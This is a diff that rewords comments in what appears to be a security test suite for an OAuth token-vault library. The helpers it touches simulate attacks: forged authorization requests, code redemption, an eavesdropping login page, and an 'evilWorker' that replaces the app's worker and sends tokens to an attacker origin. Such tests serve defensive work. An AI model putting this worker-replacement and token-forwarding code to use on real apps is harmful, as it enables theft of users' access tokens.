@@ -142,7 +142,7 @@ async function readStorage() {
   return texts
 }
 
-/** An authorization request of the attacker, with the attacker's verifier. */
+/** Returns an authorization request of the attacker, with the attacker's verifier. */
 function ownRequest(app, redirectUri, prompt) {
   const verifier = randomBytes(32).toString('base64url')
   const state = randomBytes(24).toString('base64url')
@@ -163,7 +163,7 @@ function ownRequest(app, redirectUri, prompt) {
 
 const silentRequest = (app, redirectUri) => ownRequest(app, redirectUri, 'none')
 
-/** The result of a code exchange at the attacker's server. */
+/** Resolves with the result of a code exchange at the attacker's server. */
 async function redeem(app, code, { verifier, redirectUri }) {
   const response = await fetch(`http://127.0.0.1:${app.provider.port}/token`, {
     method: 'POST',
@@ -302,7 +302,10 @@ function eavesdrop() {
   }
 }
 
-/** The attacker's own login, at which the user signs in: everything that its script can read of the response. */
+/**
+ * Resolves with the attacker's own login, at which the user signs in: everything that its script can read of the
+ * response.
+ */
 async function ownLogin(app, redirectUri) {
   const page = await openWith(app, eavesdrop)
   await booted(page)
@@ -344,7 +347,9 @@ function replaceWorkers(url) {
   }
 }
 
-/** A worker file with a vault like the app's own, but with a rule that sends tokens to the attacker's server. */
+/**
+ * Returns a worker file with a vault like the app's own, but with a rule that sends tokens to the attacker's server.
+ */
 const evilWorker = (app, redirectUri) => `
 import { vault } from '/strongroom/worker.js'
 vault(${JSON.stringify({ ...app.config, redirectUri, apis: [{ url: `${evil.origin}/` }] })})`
